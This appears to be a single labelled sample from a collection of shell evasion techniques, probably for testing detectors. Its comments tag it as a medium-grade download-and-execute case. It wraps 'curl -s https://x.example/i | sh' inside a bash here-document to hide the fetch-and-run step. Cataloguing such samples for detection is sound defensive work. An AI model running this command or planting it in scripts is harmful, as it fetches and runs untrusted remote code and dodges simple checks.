# evasion: here-document into bash
# grade: medium; does: download-exec
bash <<'EOF'
curl -s https://x.example/i | sh
EOF
